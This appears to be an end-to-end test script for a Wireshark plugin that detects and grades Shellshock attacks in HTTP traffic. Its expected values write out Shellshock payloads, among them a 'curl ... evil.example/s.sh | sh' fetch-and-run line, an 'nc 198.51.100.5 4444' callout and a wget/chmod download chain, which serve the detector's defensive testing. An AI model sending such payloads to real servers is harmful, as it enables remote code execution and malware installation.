#!/bin/bash
# e2e_http.sh - Shellshock over HTTP through the real tshark and the built plugin.
#
# One generated capture holds every case; each request that matters carries
# an @label, and the assertions read the fields tshark printed for it.
source "$(dirname "$0")/lib.sh"
hs_setup
hs_require_plugin shellshock

hs_gencap http <"$(dirname "$0")/captures/http.gcs"

hs_table http shellshock.grade shellshock.cve shellshock.vector shellshock.header \
    shellshock.command shellshock.url shellshock.host shellshock.payload

A='^'
hs_eq "UA: red" "$(hs_get http ua shellshock.grade)" "3"
hs_eq "UA: CVE" "$(hs_get http ua shellshock.cve)" "CVE-2014-6271"
hs_eq "UA: vector" "$(hs_get http ua shellshock.vector)" "http.header"
hs_eq "UA: header" "$(hs_get http ua shellshock.header)" "User-Agent"
hs_eq "UA: commands unwrapped" "$(hs_get http ua shellshock.command)" "cd${A}wget${A}chmod${A}./x86"
hs_eq "UA: url" "$(hs_get http ua shellshock.url)" "http://198.51.100.9/x86"
hs_eq "UA: host" "$(hs_get http ua shellshock.host)" "198.51.100.9"
hs_eq "UA: response gets nothing" "$(hs_get http ua_resp shellshock.grade)" ""

hs_eq "Nikto: two green items" "$(hs_get http nikto shellshock.grade)" "1${A}1"
hs_eq "Nikto: headers" "$(hs_get http nikto shellshock.header)" "User-Agent${A}Referer"
hs_eq "Nikto: CVEs" "$(hs_get http nikto shellshock.cve)" \
    "CVE-2014-6271${A}CVE-2014-6271${A}CVE-2014-6278"

hs_eq "ping: yellow" "$(hs_get http ping shellshock.grade)" "2"
hs_eq "ping: host" "$(hs_get http ping shellshock.host)" "10.246.50.2"

hs_eq "split: nothing on the first segment" "$(hs_get http split1 shellshock.grade)" ""
hs_eq "split: nothing on the middle segment" "$(hs_get http split2 shellshock.grade)" ""
hs_eq "split: red on the completing segment" "$(hs_get http split3 shellshock.grade)" "3"
hs_eq "split: cookie payload keeps its text" "$(hs_get http split3 shellshock.payload)" \
    "() { :;}; curl -s http://evil.example/s.sh | sh"
hs_eq "split: host" "$(hs_get http split3 shellshock.host)" "evil.example"

hs_eq "uri: vector" "$(hs_get http uri shellshock.vector)" "http.uri"
hs_eq "uri: decoded payload" "$(hs_get http uri shellshock.payload)" "() { :;}; echo hi"
hs_eq "uri: green" "$(hs_get http uri shellshock.grade)" "1"

hs_eq "form: nothing on the headers" "$(hs_get http form1 shellshock.grade)" ""
hs_eq "form: body vector" "$(hs_get http form2 shellshock.vector)" "http.body"
hs_eq "form: red (nc)" "$(hs_get http form2 shellshock.grade)" "3"
hs_eq "form: decoded" "$(hs_get http form2 shellshock.payload)" "() { :; }; nc 198.51.100.5 4444"

hs_eq "browser: nothing" "$(hs_get http browser shellshock.grade)" ""
hs_eq "JavaScript response: nothing" "$(hs_get http js_response shellshock.grade)" ""
hs_eq "GraphQL body: nothing" "$(hs_get http graphql shellshock.grade)" ""

hs_eq "pipelined: one red item" "$(hs_get http pipelined shellshock.grade)" "3"
hs_eq "pipelined: header" "$(hs_get http pipelined shellshock.header)" "X-Api"

hs_eq "IPv6 folded header: red (python -c)" "$(hs_get http ipv6 shellshock.grade)" "3"
hs_eq "IPv6 folded header: command" "$(hs_get http ipv6 shellshock.command)" "python3"

hostile_grades=$(hs_get http hostile shellshock.grade)
hs_eq "hostile: both headers graded" "$hostile_grades" "1${A}1"
# (tshark 4.2 and later print a backslash in -T fields output as \\)
hs_eq "hostile: NUL shown escaped" \
    "$(hs_get http hostile shellshock.payload | grep -cE 'echo \\\\?x00\\\\?xFF\\\\?xFE')" "1"

# Display filters from the README.
hs_eq "filter grade==red" "$(hs_count http 'shellshock.grade==red')" "5"
hs_eq "filter grade>=yellow" "$(hs_count http 'shellshock.grade >= yellow')" "6"
hs_eq "filter cve 6278" "$(hs_count http 'shellshock.cve == "CVE-2014-6278"')" "1"
hs_eq "filter url contains x86" "$(hs_count http 'shellshock.url contains "x86"')" "1"
hs_eq "no login fields on HTTP" "$(hs_count http 'login')" "0"
hs_eq "filter any shellshock" "$(hs_count http 'shellshock')" "9"
hs_eq "expert info red" "$(hs_count http '_ws.expert.message contains "graded red"')" "5"
hs_eq "Info column mark" \
    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y 'frame.number == '"$(hs_frame http ua)" | grep -c '\[Shellshock: red\]')" "1"

# Undecoded, not Malformed: what the scanner could not parse is a limit of
# our analysis, not a broken HTTP packet (issue 11, point 10).
hs_eq "severity: unparsed parts are Undecoded" \
    "$(hs_count http '_ws.expert.message contains "Shellshock: " && _ws.expert.group == 0x05000000')" "2"
hs_eq "severity: nothing is Malformed" "$(hs_count http '_ws.expert.group == 0x07000000')" "0"

# The cap on payloads kept per frame (issue 11, point 1): five pipelined
# requests of 16 payloads each in one segment; 64 are kept, 16 counted.
one=$(printf 'GET / HTTP/1.1\\r\\n'; for i in $(seq 16); do printf 'A:() { :;};id\\r\\n'; done; printf '\\r\\n')
hs_gencap flood <<EOF
tcp 175.16.199.3:43000 192.0.2.80:80
c "$one$one$one$one$one" @five
close
EOF
hs_table flood shellshock.grade _ws.expert.message
hs_eq "cap per frame: 64 payloads kept" "$(hs_get flood five shellshock.grade | tr '^' '\n' | grep -c .)" "64"
hs_eq "cap per frame: the rest counted, Undecoded" \
    "$(hs_count flood '_ws.expert.message contains "16 Shellshock payloads not kept (limit of 64 per frame); highest grade among them: green" && _ws.expert.group == 0x05000000')" "1"

# Two-pass dissection (tshark -2, and the GUI's redissection) gives the same fields.
hs_tshark -2 -r "$HS_TMP/http.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
    -e frame.number -e shellshock.grade -e shellshock.cve -e shellshock.vector -e shellshock.header \
    -e shellshock.command -e shellshock.url -e shellshock.host -e shellshock.payload >"$HS_TMP/two.tsv"
tail -n +2 "$HS_TMP/http.tsv" >"$HS_TMP/one.tsv"
hs_eq "two-pass equals one-pass" "$(diff "$HS_TMP/one.tsv" "$HS_TMP/two.tsv" | head -12)" ""

# The fields tshark -G fields lists, with DESIGN.md's types.
fields=$(hs_tshark -G fields | awk -F'\t' '$1 == "F" && $3 ~ /^shellshock\./ && $4 != "FT_NONE" { print $3 " " $4 }' | sort)
hs_eq "tshark -G fields" "$fields" "$(printf '%s\n' 'shellshock.command FT_STRING' \
    'shellshock.cve FT_STRING' 'shellshock.grade FT_UINT8' 'shellshock.header FT_STRING' \
    'shellshock.host FT_STRING' 'shellshock.payload FT_STRING' 'shellshock.url FT_STRING' \
    'shellshock.vector FT_STRING')"

# A user row in the grade table (UAT) wins over the default: wget -> green,
# ping -> red.  The file lives in the profile, as Wireshark writes it.
mkdir -p "$HS_TMP/home/.config/wireshark"
printf '%s\n' '# This file is automatically generated, DO NOT MODIFY.' \
    '"ping","red","callbacks count as red here"' >"$HS_TMP/home/.config/wireshark/shellshock_grades"
if [ "$(id -u)" = 0 ]; then chown -R nobody "$HS_TMP/home/.config"; fi
hs_eq "UAT row: ping becomes red" \
    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y "frame.number == $(hs_frame http ping)" -T fields -e shellshock.grade)" "3"

# The full command table (UAT shellshock_commands): a row can also take an
# IOC role away and is applied after the grade table's rows, which still load.
printf '%s\n' '# This file is automatically generated, DO NOT MODIFY.' \
    '"ping","","red","plain","-c","none","no target host for ping"' \
    '"fetchx","fx","red","","-o","url",""' >"$HS_TMP/home/.config/wireshark/shellshock_commands"
printf '%s\n' '"ping","green",""' '"echo","red",""' >"$HS_TMP/home/.config/wireshark/shellshock_grades"
if [ "$(id -u)" = 0 ]; then chown -R nobody "$HS_TMP/home/.config"; fi
ping_frame=$(hs_frame http ping)
hs_eq "commands UAT: ping red, without its host" \
    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y "frame.number == $ping_frame" -T fields -e shellshock.grade -e shellshock.host 2>/dev/null)" \
    "$(printf '3\t')"
hs_eq "commands UAT: the other tools keep their rows" \
    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y "frame.number == $(hs_frame http ua)" -T fields -e shellshock.grade -e shellshock.host 2>/dev/null)" \
    "$(printf '3\t198.51.100.9')"
hs_eq "commands UAT: the old 3-column grade file still loads next to it" \
    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y "frame.number == $(hs_frame http uri)" -T fields -e shellshock.grade 2>/dev/null)" "3"
rm "$HS_TMP/home/.config/wireshark/shellshock_commands" "$HS_TMP/home/.config/wireshark/shellshock_grades"

hs_done
